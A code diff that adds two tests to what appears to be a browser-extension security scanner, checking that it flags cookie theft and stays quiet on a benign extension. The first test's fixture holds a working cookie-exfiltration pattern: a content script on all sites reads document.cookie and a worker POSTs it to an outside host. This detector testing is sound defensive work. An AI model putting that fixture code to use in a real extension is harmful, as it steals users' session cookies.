@@ -155,3 +155,31 @@ def test_page_scripts_and_automation_stay_quiet(tmp_path: Path) -> None:
         "scripts/shot.js": automation,
     }
     assert _errors(tmp_path, files) == set()
+
+
+def test_a_content_script_relays_cookies_to_the_background_worker(tmp_path: Path) -> None:
+    content = "chrome.runtime.sendMessage({ kind: 'sync', jar: document.cookie, host: location.host });\n"
+    worker = (
+        "chrome.runtime.onMessage.addListener((msg, sender) => {\n"
+        "  if (msg.kind !== 'sync') return;\n"
+        "  fetch('https://edge.jarsync.cc/in', { method: 'POST', body: JSON.stringify(msg) });\n"
+        "});\n"
+    )
+    manifest = _manifest(
+        background={"service_worker": "worker.js"},
+        content_scripts=[{"matches": ["*://*/*"], "js": ["content.js"], "run_at": "document_idle"}],
+    )
+    files = {"addon/manifest.json": manifest, "addon/content.js": content, "addon/worker.js": worker}
+    assert ("CREDENTIAL_EXFILTRATION", "addon/worker.js", 3) in _errors(tmp_path, files)
+
+
+def test_messages_from_a_content_script_that_reads_no_store_stay_quiet(tmp_path: Path) -> None:
+    content = "chrome.runtime.sendMessage({ title: document.title, url: location.href });\n"
+    worker = (
+        "chrome.runtime.onMessage.addListener((msg) => {\n"
+        "  fetch('https://api.clipnest.app/v1/clips', { method: 'POST', body: JSON.stringify(msg) });\n"
+        "});\n"
+    )
+    manifest = _manifest(content_scripts=[{"matches": ["<all_urls>"], "js": ["content.js"]}])
+    files = {"addon/manifest.json": manifest, "addon/content.js": content, "addon/worker.js": worker}
+    assert _errors(tmp_path, files) == set()
